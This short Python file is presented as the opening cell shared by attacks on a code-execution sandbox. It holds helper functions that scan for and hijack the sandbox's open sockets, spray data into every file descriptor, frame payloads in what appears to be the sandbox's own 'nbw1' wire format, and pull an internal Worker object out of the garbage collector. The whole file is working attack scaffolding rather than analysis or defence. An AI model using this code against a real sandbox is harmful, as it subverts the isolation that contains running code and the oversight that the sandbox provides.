# What attacks on the sandbox begin with: their first cell.
import builtins, os, sys, time, stat, struct, socket, signal, threading, gc, ctypes
import numpy as np
def sockets():
    found = []
    for fd in range(3, 4096):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): found.append(fd)
        except OSError: pass
    return found
def write_everywhere(data):
    for fd in range(0, 128):
        try: os.write(fd, data)
        except OSError: pass
def send_all(data):
    with socket.socket(fileno=os.dup(sockets()[0])) as s:
        s.setblocking(True)
        s.sendall(data)
def frame(payload): return struct.pack("<4sQ", b"nbw1", len(payload)) + payload
def worker():
    return next(o for o in gc.get_objects() if type(o).__name__ == "Worker")
